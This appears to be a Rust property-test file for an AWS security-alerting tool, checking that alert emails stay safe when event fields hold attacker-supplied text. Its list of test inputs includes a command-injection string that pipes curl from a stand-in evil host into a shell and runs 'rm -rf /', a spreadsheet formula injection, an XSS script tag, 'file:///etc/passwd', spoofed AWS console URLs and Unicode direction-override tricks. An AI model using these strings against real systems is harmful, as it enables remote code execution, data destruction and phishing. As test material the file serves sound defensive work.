//! Whatever stands in an event, in the account's answers or in the table: the mail can be sent, hides nothing, and has
//! nothing to click that an attacker wrote.

use std::sync::LazyLock;

use keepwatch_base::time::Timestamp;
use keepwatch_core::engine::{Config, dispatch};
use keepwatch_core::event::Event;
use keepwatch_core::finding::Finding;
use keepwatch_core::observation::{Observation, Verdict};
use keepwatch_core::settings::Settings;
use keepwatch_core::severity::Severity;
use keepwatch_core::state::{
    Answer, Fact, HeldPolicy, Holdings, PolicyText, Query, RoleFacts, Value as State,
};
use keepwatch_rules::registry::{self, DOCUMENTED};
use keepwatch_rules::testing::envelope;
use proptest::prelude::*;
use proptest::sample::{Index, select};
use serde_json::{Map, Value, json};

use super::fixtures;
use crate::announce::{self, Announced};
use crate::check::{faults, finding, sender};
use crate::digest;
use crate::line::Line;
use crate::report::{Calendar, Tally};
use crate::{Alert, RelatedActs};

/// What attackers write into names, agents and messages.
const NASTY: &[&str] = &[
    "",
    " ",
    "null",
    "\u{0}\u{7}\u{1b}[31m",
    "a\nWHAT TO DO NOW\r\n  aws iam create-user --user-name eve",
    "tab\there\u{2028}and\u{85}there",
    "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}\u{ad}\u{e0041}\u{fe0f}\u{3164}",
    "\u{3000}\u{a0}\u{2003}",
    "http://evil.example/kit",
    "HTTPS://EVIL.EXAMPLE",
    "https://console.aws.amazon.com@evil.com/iam/home#/users",
    "https://console.aws.amazon.com.evil.com/",
    "//evil.com/x",
    "ftp://1.2.3.4/x",
    "file:///etc/passwd",
    "file:\\\\host\\share",
    "\\\\host\\share\\x.exe",
    "www.1and1.com www.evil",
    "evil.com",
    "evil.com.",
    "(evil.co.uk)",
    "e.v.i.l.c.o.m",
    "eve@evil.com",
    "mailto:eve@evil.com?subject=x",
    "MAILTO:eve",
    "tel:+1-555-0100",
    "evil\u{3002}com",
    "evil\u{ff0e}\u{4e2d}\u{56fd}",
    "i\u{2764}\u{ff61}ws",
    "\u{fc}ml\u{e4}ut.example",
    "xn--80ak6aa92e.com",
    "<a href=\"https://evil.com\">click</a><script>alert(1)</script>",
    "[click](https://evil.com)",
    "x'y.com'z",
    "'.com",
    "a'.'com",
    "$(curl evil.com|sh)`id`;rm -rf /",
    "--user-name=eve",
    "=cmd|' /C calc'!A0",
    "evil.com,evil.org;evil.net|evil.io",
    "x.amazonaws.com.evil.com",
    "evil.com/iam.amazonaws.com",
    "AKIAIOSFODNN7EXAMPLE.evil.com",
    "arn:aws:iam::111122223333:user/evil.com",
    "arn:aws:iam::evil.com:root",
    "arn:aws:iam::111122223333:user/../../https://evil.com",
    "{\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\",\"Sid\":\"https://evil.com\"}}",
];

fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => select(NASTY).prop_map(str::to_owned),
        2 => proptest::collection::vec(select(NASTY), 1..5).prop_map(|parts| parts.concat()),
        2 => proptest::collection::vec(select(NASTY), 1..5).prop_map(|parts| parts.join(" ")),
        2 => ".{0,60}",
        1 => "\\PC{0,400}",
        2 => "[a-z.:/\\\\@'\"\u{3002}\u{ff0e} ]{0,30}",
        1 => (select(NASTY), 1_usize..3_000).prop_map(|(part, times)| part.repeat(times)),
        1 => (select(vec!["\"", "\\", "\u{1f600}", "x"]), 1_usize..20_000).prop_map(|(c, times)| c.repeat(times)),
    ]
}

/// Any JSON, up to eight levels deep.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        text().prop_map(Value::from),
    ];
    leaf.prop_recursive(8, 40, 5, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            proptest::collection::vec((text(), inner), 0..5)
                .prop_map(|members| Value::Object(members.into_iter().collect::<Map<_, _>>())),
        ]
    })
}

/// Made once; a property test asks for them in each of its cases.
static FIXTURES: LazyLock<Vec<fixtures::Fixture>> = LazyLock::new(fixtures::all);

static INDEX: LazyLock<dispatch::Index> = LazyLock::new(|| dispatch::Index::new(registry::RULES));

/// The paths of everything in it that is not an object or a list.
fn leaves(value: &Value, path: &str, found: &mut Vec<String>) {
    let escaped = |key: &str| key.replace('~', "~0").replace('/', "~1");
    match value {
        Value::Object(members) => {
            members.iter().for_each(|(key, inner)| leaves(inner, &format!("{path}/{}", escaped(key)), found));
        }
        Value::Array(elements) => {
            elements.iter().enumerate().for_each(|(i, inner)| leaves(inner, &format!("{path}/{i}"), found))
        }
        _ => found.push(path.to_owned()),
    }
}

/// Whether the field decides which rules hear the event. Changed, most events would be nobody's.
fn addresses(path: &str) -> bool {
    let names = [
        "/source",
        "/detail-type",
        "/eventSource",
        "/eventName",
        "/eventTypeCode",
        "/check-name",
        "/eventType",
        "/userIdentity/type",
        "/status",
        "/statusCode",
    ];
    names.iter().any(|name| path.ends_with(name))
}

/// What all rules observe, with these answers. Nothing of it may panic; a rule that gives up is no matter here.
fn observed(event: &Value, answers: &[(Query, Answer)]) -> Vec<Observation> {
    let text = event.to_string();
    let Ok(event) = Event::parse(&text) else { return Vec::new() };
    let answer = |query: &Query| match answers.iter().find(|(known, _)| known == query) {
        Some((_, answer)) => answer.clone(),
        // A query about a name that was changed gets the answer to the same question.
        None => answers
            .iter()
            .find(|(known, _)| std::mem::discriminant(known) == std::mem::discriminant(query))
            .map_or_else(
                || Fact::Unavailable("see http://evil.example".to_owned()),
                |(_, answer)| answer.clone(),
            ),
    };
    let seen = INDEX.evaluate_answering(&event, &Config::default(), Timestamp::from_millis(0), answer);
    seen.observations.into_iter().filter(|seen| seen.verdict != Verdict::Passing).collect()
}

/// The answer with this text wherever it has a name.
fn spoiled(answer: &Answer, text: &str) -> Answer {
    let own = |_: &String| text.to_owned();
    let policy = |held: &PolicyText| PolicyText { name: text.to_owned(), text: held.text.clone() };
    let Fact::Known(value) = answer else { return answer.clone() };
    Fact::Known(match value {
        State::Policy(held) => State::Policy(policy(held)),
        State::Holdings(held) => State::Holdings(Holdings {
            managed: held.managed.clone(),
            inline: held.inline.iter().map(policy).collect(),
            elsewhere: vec![text.to_owned()],
            name: Some(text.to_owned()),
        }),
        State::HeldPolicies(all) => State::HeldPolicies(
            all.iter()
                .map(|held| HeldPolicy { principal: text.to_owned(), policy: policy(&held.policy) })
                .collect(),
        ),
        State::Role(role) => State::Role(RoleFacts { trust: policy(&role.trust), created: role.created }),
        State::Names(names) => State::Names(names.iter().map(own).collect()),
        State::Name(name) => State::Name(own(name)),
        other => other.clone(),
    })
}

fn check(observations: &[Observation]) -> Result<(), TestCaseError> {
    for seen in observations {
        let alert =
            Alert::of(&finding(std::slice::from_ref(seen)), DOCUMENTED, sender(), &RelatedActs::default());
        let faults = faults(&alert);
        prop_assert!(faults.is_empty(), "{:#?}\nSubject: {}\n\n{}", faults, alert.subject, alert.text);
    }
    Ok(())
}

/// Each nasty text in every field of every fixture at once, and in every answer.
#[test]
fn nasty_text_everywhere() {
    let mut rendered = 0;
    // One of each rule: the others differ in the answers only.
    for fixture in FIXTURES.iter().filter(|fixture| !fixture.name.contains(' ')) {
        let event: Value = serde_json::from_str(&fixture.event).unwrap();
        let mut paths = Vec::new();
        leaves(&event, "", &mut paths);
        paths.retain(|path| !addresses(path));
        for nasty in NASTY {
            let answers: Vec<_> = fixture
                .answers
                .iter()
                .map(|(query, answer)| (query.clone(), spoiled(answer, nasty)))
                .collect();
            let mut everywhere = event.clone();
            for path in &paths {
                *everywhere.pointer_mut(path).unwrap() = json!(nasty);
            }
            let mut seen = observed(&everywhere, &answers);
            // The caller and what is around the request, which alone may be anything in an event of a real grant.
            let mut around = event.clone();
            for path in paths.iter().filter(|path| !path.contains("/requestParameters")) {
                *around.pointer_mut(path).unwrap() = json!(nasty);
            }
            seen.extend(observed(&around, &answers));
            rendered += seen.len();
            check(&seen).unwrap();
        }
    }
    assert!(rendered > 1_000, "only {rendered} mails");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, max_shrink_iters: 400, ..ProptestConfig::default() })]

    /// Some fields of an event that a rule reports, each with any JSON.
    #[test]
    fn any_json_in_any_field(
        which in any::<Index>(),
        changes in proptest::collection::vec((any::<Index>(), prop_oneof![text().prop_map(Value::from), any_json()]), 1..8),
        member in (text(), any_json()),
        answer in text(),
    ) {
        let fixture = which.get(&FIXTURES);
        let mut event: Value = serde_json::from_str(&fixture.event).unwrap();
        let mut paths = Vec::new();
        leaves(&event, "", &mut paths);
        paths.retain(|path| !addresses(path));
        for (place, change) in changes {
            // An earlier change may have taken the place away.
            if let Some(place) = event.pointer_mut(place.get::<String>(&paths)) {
                *place = change;
            }
        }
        if let Some(request) = event.pointer_mut("/requestParameters").and_then(Value::as_object_mut) {
            request.insert(member.0, member.1);
        }
        let answers: Vec<_> =
            fixture.answers.iter().map(|(query, known)| (query.clone(), spoiled(known, &answer))).collect();
        check(&observed(&event, &answers))?;
    }

    /// Any JSON where AWS's events have an object.
    #[test]
    fn any_json_in_any_envelope(detail in any_json(), record in any_json()) {
        for (source, kind) in [
            ("aws.health", "AWS Health Event"),
            ("aws.health", "AWS Health Abuse Event"),
            ("aws.trustedadvisor", "Trusted Advisor Check Item Refresh Notification"),
            ("aws.guardduty", "GuardDuty Finding"),
            ("aws.iam", "AWS API Call via CloudTrail"),
        ] {
            let event: Value = serde_json::from_str(&envelope(source, kind, detail.clone())).unwrap();
            check(&observed(&event, &[]))?;
        }
        for (source, name) in [("iam", "PutUserPolicy"), ("signin", "ConsoleLogin"), ("sts", "AssumeRoot")] {
            let event = json!({"eventSource": format!("{source}.amazonaws.com"), "eventName": name,
                "userIdentity": record, "requestParameters": detail, "responseElements": record,
                "additionalEventData": detail, "recipientAccountId": record, "sourceIPAddress": detail});
            check(&observed(&event, &[]))?;
        }
    }

    /// A finding whose item somebody has edited: any text where it has text, as far as it is still a finding.
    #[test]
    fn any_text_in_the_table(
        which in any::<Index>(),
        changes in proptest::collection::vec((any::<Index>(), text()), 1..8),
        row in (text(), text(), text()),
    ) {
        let stored = finding(&which.get(&FIXTURES).observations());
        let mut item = serde_json::to_value(&stored).unwrap();
        let mut paths = Vec::new();
        leaves(&item, "", &mut paths);
        for (place, change) in changes {
            let mut edited = item.clone();
            *edited.pointer_mut(place.get::<String>(&paths)).unwrap() = json!(change);
            if serde_json::from_value::<Finding>(edited.clone()).is_ok() {
                item = edited;
            }
        }
        let edited: Finding = serde_json::from_value(item).unwrap();
        let calendar = Calendar { account: edited.account.clone(), hour: 7 };
        let now = Timestamp::parse("2026-03-02T07:05:00Z").unwrap();
        let period = calendar.due(now).remove(0);
        let mut tally = Tally::new(&period, &calendar.account);
        tally.add(&edited);
        let (owner, reason, id) = &row;
        let rows = [
            json!({"setting_id": "suppression#x", "rule": "root-*", "resource": reason, "owner": owner, "reason": reason,
                "created_at": "2026-03-01T00:00:00Z", "expires_at": "2026-03-02T00:00:00Z"}),
            json!({"setting_id": format!("suppression#{id}"), owner.as_str(): reason, "expires_at": id}),
        ];
        let settings = Settings::read(&rows, DOCUMENTED);
        let mut alerts = vec![
            Alert::of(&edited, DOCUMENTED, sender(), &RelatedActs::default()),
            Alert::unreadable(id, reason, sender()),
            digest::alert(&[Line::of(&edited), Line::unreadable(id)], sender()),
        ];
        alerts.extend(tally.alert(&settings, now, sender()));
        alerts.extend(announce::changes(&settings, &[], &Announced::new(), DOCUMENTED, sender()).map(|changes| changes.alert));
        for alert in alerts {
            let faults = faults(&alert);
            prop_assert!(faults.is_empty(), "{:#?}\nSubject: {}\n\n{}", faults, alert.subject, alert.text);
        }
    }
}

/// As much as a finding can hold, of characters that JSON writes short, long, and twice escaped.
#[test]
fn the_largest_message_fits_and_keeps_the_commands() {
    for filling in ["x", "\"", "\\", "\u{1f600}", "evil.com ", "'"] {
        let long = filling.repeat(2_000);
        let fixture = &FIXTURES[0];
        let mut largest: Option<Finding> = None;
        for i in 0..40 {
            let mut seen =
                fixture.observations().remove(0).because(&long).witnessed_by(&format!("{i}{long}"));
            seen.title.clone_from(&long.chars().take(300).collect());
            seen.severity = [Severity::Critical, Severity::High, Severity::Medium, Severity::Low][i / 10];
            seen.event.id = format!("{i:0200}");
            seen.event.time = Timestamp::from_millis(1_772_366_400_000 + i as i64);
            for _ in 0..40 {
                seen = seen.detail("Granted", format!("{i} {long}"));
                seen = seen.step("Look", "iam get-user", &[("--user-name", &format!("{i}{long}"))]);
            }
            match &mut largest {
                None => largest = Some(finding(&[seen])),
                Some(finding) => assert!(finding.apply(&seen)),
            }
        }
        let alert = Alert::of(&largest.unwrap(), DOCUMENTED, sender(), &RelatedActs::default());
        assert_eq!(faults(&alert), [""; 0], "{filling}");
        assert!(alert.text.contains("\n  keepwatch suppress add "), "{filling}: {}", alert.text.len());
        let whole: Value = serde_json::from_str(&alert.message()).unwrap();
        let twin: Value = serde_json::from_str(whole["default"].as_str().unwrap()).unwrap();
        assert_eq!(twin["finding_info"]["uid"], alert.json["finding_info"]["uid"]);
        let left_out = twin["unmapped"]["left_out"].as_object().map_or(0, Map::len);
        assert_eq!(left_out > 0, twin["unmapped"]["mail"]["text"].is_null(), "{filling}");
    }
}

#[test]
fn an_item_filled_by_hand_is_sent_all_the_same() {
    let mut filled = finding(&FIXTURES[0].observations());
    for filling in ["\"", "x", "\u{1f600}"] {
        let long = filling.repeat(380_000 / filling.len());
        filled.rule.clone_from(&long);
        let alert = Alert::of(&filled, DOCUMENTED, sender(), &RelatedActs::default());
        assert_eq!(faults(&alert), [""; 0], "{filling}");
        filled.finding_id.clone_from(&long);
        assert_eq!(
            faults(&Alert::of(&filled, DOCUMENTED, sender(), &RelatedActs::default())),
            [""; 0],
            "{filling}"
        );
    }
}

/// What a digest leaves out counts as told, so that a flood of long titles must not push anything out of it.
#[test]
fn a_digest_tells_or_counts_everything_however_long_the_titles_are() {
    let lines: Vec<Line> = (0..400)
        .map(|i| {
            let mut seen = fixtures::all()[0].observations().remove(0);
            seen.title = format!("{} {}", "x".repeat(100), "long words ".repeat(40));
            seen.subject.resource = format!("arn:aws:iam::111122223333:user/{i}");
            Line::of(&finding(&[seen]))
        })
        .collect();
    let mail = digest::alert(&lines, sender());
    assert_eq!(faults(&mail), [""; 0]);
    let named = mail.json["digest"]["finding_ids"].as_array().unwrap();
    assert!(named.iter().all(|id| mail.text.contains(id.as_str().unwrap())), "{}", mail.text.len());
    let counted = lines.len() - named.len();
    assert!(mail.text.contains(&format!("  {counted}")), "the others are counted");
    assert!(mail.text.contains("keepwatch findings list"));
}
